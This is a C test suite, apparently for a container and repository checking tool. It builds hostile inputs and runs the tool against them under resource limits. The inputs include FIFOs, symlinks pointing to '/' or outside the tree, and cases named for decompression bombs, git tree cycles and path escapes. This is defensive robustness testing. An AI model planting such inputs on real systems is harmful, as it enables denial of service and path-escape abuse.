	puts_file(p, "Dockerfile", "FROM alpine:3.19\nUSER app\n");
	build_repo(in, tree);
	fifo(in, "repo/pipe");
	snprintf(p, sizeof(p), "%s/repo/out", in);
	ck_assert_int_eq(symlink("/", p), 0);
	snprintf(p, sizeof(p), "%s/repo/abs", in);
	snprintf(q, sizeof(q), "%s/repo/sub", in);
	ck_assert_int_eq(symlink(q, p), 0);
}

/*
 * The committed Dockerfile and compose.yaml, replaced in the work tree by
 * FIFOs with no writer: each is a target that could not be read (SGG003,
 * exit 3), not a file the walk passes over (exit 0, "none found").
 */
static void gen_worktree_fifo_targets(const char *in)
{
	char tree[4300], p[4400];
	static const char *const names[] = { "Dockerfile", "app/compose.yaml" };
	size_t i;

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "Dockerfile", "FROM alpine:3.19\nUSER app\n");
	sub(tree, "app", p, sizeof(p));
	puts_file(p, "compose.yaml", "services:\n  a:\n    image: nginx:1.25\n");
	build_repo(in, tree);
	sub(in, "repo", p, sizeof(p));
	for (i = 0; i < SG_ARRAY_SIZE(names); i++) {
		char path[4500];

		snprintf(path, sizeof(path), "%s/%s", p, names[i]);
		ck_assert_int_eq(unlink(path), 0);
		fifo(p, names[i]);
	}
}

/* The work tree's .shipgate.yaml is a FIFO: the repository's policy cannot
 * be read, and the defaults are not used in its place (exit 2). */
static void gen_worktree_fifo_policy(const char *in)
{
	char tree[4300];

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "Dockerfile", "FROM alpine:3.19\nUSER app\n");
	build_repo(in, tree);
	fifo(in, "repo/.shipgate.yaml");
}

/* A Compose file named on the command line is a FIFO. */
static void gen_lint_fifo_compose(const char *in)
{
	fifo(in, "compose.yaml");
}

/* The input is the command's standard input ("<PATH"): nothing to write. */
static void gen_stdin_only(const char *in)
{
	(void)in;
}

/* ---- the cases ---------------------------------------------------------------- */

/* The inputs not committed to testdata/hostile/: binary or very large. */
static const struct gen {
	const char *name;
	void (*fn)(const char *in);
} gens[] = {
	{ "df-1mb-line", gen_df_long_line },
	{ "df-100k-continuations", gen_df_continuations },
	{ "df-16k-deep-shell", gen_df_deep_shell },
	{ "df-binary-noise", gen_df_binary },
	{ "df-30k-stages", gen_df_many },
	{ "df-over-size-cap", gen_df_over_cap },
	{ "df-nul-bytes", gen_df_nul },
	{ "yaml-10k-deep", gen_yaml_deep },
	{ "yaml-non-utf8", gen_yaml_utf8 },
	{ "compose-20k-services", gen_compose_many },
	{ "compose-nested-interpolation", gen_compose_interp },
	{ "db-corrupt", gen_db_corrupt },
	{ "db-truncated", gen_db_truncated },
	{ "db-corrupt-at-scan", gen_db_corrupt_img },
	{ "osv-absurd-ranges", gen_osv_absurd },
	{ "osv-zip-bomb", gen_osv_zipbomb },
	{ "img-escaping-names", gen_img_escape },
	{ "img-link-outside", gen_img_link_outside },
	{ "img-gzip-bomb", gen_img_gzip_bomb },
	{ "img-zstd-bomb", gen_img_zstd_bomb },
	{ "img-outer-gzip-bomb", gen_img_outer_bomb },
	{ "img-truncated-layer", gen_img_truncated },
	{ "img-diffid-mismatch", gen_img_bad_diffid },
	{ "img-blob-digest-mismatch", gen_img_bad_blob },
	{ "img-manifest-outside", gen_img_outside },
	{ "img-manifest-self", gen_img_self },
	{ "img-10000-layers", gen_img_layers },
	{ "img-bad-config", gen_img_bad_config },
	{ "img-no-diffids", gen_img_no_diffids },
	{ "img-noise", gen_img_noise },
	{ "img-empty", gen_img_empty },
	{ "img-layout-fifo-blob", gen_img_layout_fifo },
	{ "policy-fifo", gen_policy_fifo },
	{ "img-fifo-path", gen_img_fifo_path },
	{ "img-layout-escape", gen_img_not_layout },
	{ "git-2gb-claimed-blob", gen_git_huge_blob },
	{ "git-tree-cycle", gen_git_tree_cycle },
	{ "git-tree-bomb", gen_git_tree_bomb },
	{ "git-dotdot-entry", gen_git_dotdot_entry },
	{ "git-command-named-dir", gen_git_command_dir },
	{ "git-control-chars-in-names", gen_git_control_names },
	{ "git-pr-base-cycle", gen_git_pr_base_cycle },
	{ "git-pr-base-bomb", gen_git_pr_base_bomb },
	{ "git-pr-rename-flood", gen_git_pr_rename_flood },
	{ "git-dockerfile-is-a-link", gen_git_dockerfile_link },
	{ "git-not-a-repository", gen_git_not_repo },
	{ "worktree-symlink-loops", gen_worktree_links },
	{ "worktree-fifo-and-escaping-contexts", gen_worktree_fifo },
	{ "worktree-fifo-targets", gen_worktree_fifo_targets },
	{ "lint-fifo-compose", gen_lint_fifo_compose },
	{ "worktree-fifo-policy", gen_worktree_fifo_policy },
	{ "stdin-endless", gen_stdin_only },
};

#define MAX_CASES 256

/* testdata/hostile/cases, read once when the suite is built. */
static struct hcase cases[MAX_CASES];
static size_t ncases;
static char *cases_text;        /* the fields point into it */
static char cases_error[600];   /* a bad line, asserted by the count test */

static char *field(char **s, int sep)
{
	char *f = *s, *e = f ? strchr(f, sep) : NULL;

	if (e) {
		*e = '\0';
		*s = e + 1;
	} else {
		*s = NULL;
	}
	return f;
}

/* Not inside a test: no ck_assert here (a problem is kept in cases_error). */
static void load_cases(void)
{
	struct sg_buf b = SG_BUF_INIT(MB);
	sg_error err;
	char *s, *line;

	sg_error_clear(&err);
	if (sg_read_file(t_src("testdata/hostile/cases"), MB, &b, &err) < 0) {
		snprintf(cases_error, sizeof(cases_error), "%s", err.message);
		return;
	}
	cases_text = sg_buf_detach(&b);
	for (s = cases_text; s && *s;) {
		struct hcase *c = &cases[ncases];
		char *cols[5], *out, *arg;
		size_t k = 0, i;

		line = field(&s, '\n');
		if (line[0] == '#' || line[0] == '\0')
			continue;
		for (i = 0; i < 5; i++)
			cols[i] = field(&line, '\t');
		if (!cols[4] || ncases == MAX_CASES) {
			snprintf(cases_error, sizeof(cases_error),
				 "testdata/hostile/cases: bad line '%s'", cols[0]);
			return;
		}
		c->name = cols[0];
		c->exit = (int)strtol(cols[1], NULL, 10);
		out = strcmp(cols[2], "-") ? cols[2] : NULL;
		while (out && k < SG_ARRAY_SIZE(c->outputs) - 1)
			c->outputs[k++] = field(&out, ',');
		for (k = 0, arg = cols[3];
		     arg && k < SG_ARRAY_SIZE(c->argv) - 1;) {
			char *a = field(&arg, ' ');

			if (a[0] == '<')
				c->stdin_from = a + 1;
			else
				c->argv[k++] = a;
		}
		c->needle = cols[4];
		ncases++;
	}
}

/* Copy the committed input directory `from` into `to`. */
static void copy_tree(const char *from, const char *to)
{
	struct dirent **names = NULL;
	int i, n = scandir(from, &names, NULL, alphasort);

	ck_assert_msg(n >= 0, "cannot list %s", from);
	for (i = 0; i < n; i++) {
		char a[4400], b[4400];
		struct stat st;

		if (strcmp(names[i]->d_name, ".") && strcmp(names[i]->d_name, "..")) {
			snprintf(a, sizeof(a), "%s/%s", from, names[i]->d_name);
			snprintf(b, sizeof(b), "%s/%s", to, names[i]->d_name);
			ck_assert_int_eq(lstat(a, &st), 0);
			if (S_ISDIR(st.st_mode)) {
				mkdir(b, 0755);
				copy_tree(a, b);
			} else {
				size_t len;
				char *data = t_read(a, &len);

				put(to, names[i]->d_name, data, len);
				free(data);
			}
		}
		free(names[i]);
	}
	free(names);
}

/* The case's input: its committed directory, or its generator. */
static void write_input(const struct hcase *c, const char *in)
{
	char dir[4300];
	struct stat st;
	size_t i;

	snprintf(dir, sizeof(dir), "%s/%s", t_src("testdata/hostile"), c->name);
	for (i = 0; i < SG_ARRAY_SIZE(gens); i++)
		if (!strcmp(gens[i].name, c->name)) {
			ck_assert_msg(stat(dir, &st) != 0,
				      "%s: both a directory and a generator",
				      c->name);
			gens[i].fn(in);
			return;
		}
	ck_assert_msg(stat(dir, &st) == 0 && S_ISDIR(st.st_mode),
		      "%s: no input (no testdata/hostile/%s/, no generator)",
		      c->name, c->name);
	copy_tree(dir, in);
}

/* ---- running one case ----------------------------------------------------------- */

/* Sorted "path size" lines of every entry under dir (symlinks not followed). */
static void listing(const char *dir, const char *rel, struct sg_buf *out)
{
	char path[4400];
	struct dirent **names = NULL;
	int i, n;

	snprintf(path, sizeof(path), "%s%s%s", dir, *rel ? "/" : "", rel);
	n = scandir(path, &names, NULL, alphasort);
	for (i = 0; i < n; i++) {
		char child[4400], full[4500];
		struct stat st;

		if (strcmp(names[i]->d_name, ".") && strcmp(names[i]->d_name, "..")) {
			snprintf(child, sizeof(child), "%s%s%s", rel, *rel ? "/" : "",
				 names[i]->d_name);
			snprintf(full, sizeof(full), "%s/%s", dir, child);
			if (lstat(full, &st) == 0) {
				sg_buf_printf(out, "%s %lld\n", child,
					      S_ISDIR(st.st_mode) ? 0LL
								  : (long long)st.st_size);
				if (S_ISDIR(st.st_mode) && strcmp(names[i]->d_name, ".git"))
					listing(dir, child, out);
			}
		}
		free(names[i]);
	}
	free(names);
}

static const char *subst(const char *arg, const char *in, const char *out,
			 char *buf, size_t size)
{
	if (!strncmp(arg, "@in", 3))
		snprintf(buf, size, "%s%s", in, arg + 3);
	else if (!strncmp(arg, "@out", 4))
		snprintf(buf, size, "%s%s", out, arg + 4);
	else
		return arg;
	return buf;
}

#define CPU_SECONDS 60
#define WALL_SECONDS 120

START_TEST(test_hostile_input)
{
	const struct hcase *c = &cases[_i];
	char *dir = t_tmpdir(c->name), in[4300], work[4300], home[4400];
	char args[16][4400], outp[4400], errp[4400];
	const char *argv[18];
	struct sg_buf before = SG_BUF_INIT(16 * MB), after = SG_BUF_INIT(16 * MB);
	struct sg_buf wlist = SG_BUF_INIT(MB), want = SG_BUF_INIT(MB);
	const char *bin = getenv("SG_BIN") ? getenv("SG_BIN") : "build/shipgate";
	bool san = getenv("SG_SAN") && !strcmp(getenv("SG_SAN"), "1");
	time_t start;
	pid_t pid;
	int status = 0, code, i, n = 0;
	char *out_text, *err_text;

	snprintf(in, sizeof(in), "%s/in", dir);
	snprintf(work, sizeof(work), "%s/work", dir);
	mkdir(in, 0755);
	mkdir(work, 0755);
	write_input(c, in);
	listing(in, "", &before);
	argv[n++] = bin;
	for (i = 0; c->argv[i]; i++, n++)
		argv[n] = subst(c->argv[i], in, work, args[i], sizeof(args[i]));
	argv[n] = NULL;
	snprintf(outp, sizeof(outp), "%s/stdout", dir);
	snprintf(errp, sizeof(errp), "%s/stderr", dir);
	snprintf(home, sizeof(home), "%s/home", dir);
	start = time(NULL);
	pid = fork();
	ck_assert(pid >= 0);
	if (pid == 0) {
		struct rlimit cpu = { CPU_SECONDS, CPU_SECONDS };
		struct rlimit fsize = { 512 * MB, 512 * MB };
		struct rlimit as = { 2048 * MB, 2048 * MB };
		int fo = open(outp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		int fe = open(errp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		int input = open(c->stdin_from ? c->stdin_from : "/dev/null",
				 O_RDONLY);

		setrlimit(RLIMIT_CPU, &cpu);
		setrlimit(RLIMIT_FSIZE, &fsize);
		/* ASan reserves terabytes of address space: no AS cap there */
		if (!san)
			setrlimit(RLIMIT_AS, &as);
		if (input < 0)
			_exit(127);
		dup2(input, 0);
		dup2(fo, 1);
		dup2(fe, 2);
		setenv("HOME", home, 1);
		setenv("XDG_CACHE_HOME", home, 1);
		setenv("XDG_DATA_HOME", home, 1);
		if (chdir(work) < 0)
			_exit(127);
		execv(bin, (char *const *)argv);
		_exit(127);
	}
	for (;;) {
		pid_t w = waitpid(pid, &status, WNOHANG);

		if (w == pid)
			break;
		if (time(NULL) - start > WALL_SECONDS) {
			kill(pid, SIGKILL);
			waitpid(pid, &status, 0);
			ck_abort_msg("%s: still running after %d s", c->name,
				     WALL_SECONDS);
		}
		usleep(10000);
	}
	out_text = t_read(outp, NULL);
	err_text = t_read(errp, NULL);
	ck_assert_msg(!WIFSIGNALED(status), "%s: killed by signal %d\nstderr: %.2000s",
		      c->name, WTERMSIG(status), err_text);
	code = WEXITSTATUS(status);
	ck_assert_msg(code == c->exit, "%s: exit %d, not %d\nstdout: %.1500s\nstderr: %.1500s",
		      c->name, code, c->exit, out_text, err_text);
	ck_assert_msg(!strstr(err_text, "Sanitizer") && !strstr(err_text, "runtime error"),
		      "%s: sanitizer report\n%.3000s", c->name, err_text);
	ck_assert_msg(strstr(out_text, c->needle) || strstr(err_text, c->needle),
		      "%s: output does not mention '%s'\nstdout: %.1500s\n"
		      "stderr: %.1500s", c->name, c->needle, out_text, err_text);
	/* exit 2 is a usage/policy error: one line on stderr, not a report */
	if (code == 2)
		ck_assert_msg(strchr(err_text, '\n') == err_text + strlen(err_text) - 1,
			      "%s: exit 2 must print one line\n%s", c->name, err_text);
	/* nothing written but the outputs */
	listing(in, "", &after);
	ck_assert_msg(strcmp(sg_buf_cstr(&before), sg_buf_cstr(&after)) == 0,
		      "%s: the input tree changed", c->name);
	listing(work, "", &wlist);
	for (i = 0; i < 3 && c->outputs[i]; i++) {
		char p[4400];
		struct stat st;

		snprintf(p, sizeof(p), "%s/%s", work, c->outputs[i]);
		if (stat(p, &st) == 0)
			sg_buf_printf(&want, "%s %lld\n", c->outputs[i],
				      (long long)st.st_size);
	}
	ck_assert_msg(strcmp(sg_buf_cstr(&wlist), sg_buf_cstr(&want)) == 0,
		      "%s: unexpected files in the work directory:\n%s", c->name,
		      sg_buf_cstr(&wlist));
	free(out_text);
	free(err_text);
	sg_buf_release(&before);
	sg_buf_release(&after);
	sg_buf_release(&wlist);
	sg_buf_release(&want);
	free(dir);
}
END_TEST

START_TEST(test_hostile_has_forty_cases)
{
	size_t i, k;

	ck_assert_msg(!cases_error[0], "%s", cases_error);
	ck_assert_uint_ge(ncases, 40);
	/* every generator belongs to a case */
	for (i = 0; i < SG_ARRAY_SIZE(gens); i++) {
		for (k = 0; k < ncases; k++)
			if (!strcmp(gens[i].name, cases[k].name))
				break;
		ck_assert_msg(k < ncases, "generator %s has no case", gens[i].name);
	}
}
END_TEST

Suite *hostile_suite(void)
{
	Suite *s = suite_create("hostile");
	TCase *tc = tcase_create("inputs");

	load_cases();

	/* each case has its own rlimit and wall clock; Check's is a backstop */
	tcase_set_timeout(tc, WALL_SECONDS + 60);
	tcase_add_test(tc, test_hostile_has_forty_cases);
	tcase_add_loop_test(tc, test_hostile_input, 0, (int)ncases);
	suite_add_tcase(s, tc);
	return s;
}
